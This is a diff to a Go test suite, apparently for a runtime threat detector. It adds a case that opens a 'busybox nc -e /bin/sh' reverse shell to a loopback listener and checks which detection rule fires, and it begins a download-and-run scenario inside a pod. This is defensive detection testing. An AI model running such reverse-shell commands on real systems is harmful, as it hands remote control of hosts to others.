@@ -157,6 +157,15 @@ func init() {
 			expect: []expected{{"VGL-EXEC-010", "T1059.004"}, {"VGL-NET-003", "T1095"}, {"VGL-NET-011", "T1095"}},
 		},
 		behaviour{
+			name: "busybox nc -e hands a shell to a loopback listener on the host",
+			perform: func(t *testing.T, a *arena) string {
+				port := shellCatcher(t)
+				a.hostMayFail(t, "timeout", "10", "busybox", "nc", "127.0.0.1", fmt.Sprint(port), "-e", "/bin/sh")
+				return fmt.Sprintf(`process.command_line:~%q`, fmt.Sprintf("nc 127.0.0.1 %d -e", port))
+			},
+			expect: []expected{{"VGL-EXEC-010", "T1059.004"}},
+		},
+		behaviour{
 			name: "download from a loopback web server and run it in a pod",
 			perform: func(t *testing.T, a *arena) string {
 				return a.inPod(t, "ip link set lo up && mkdir -p /www && cp /bin/busybox /www/stage && "+
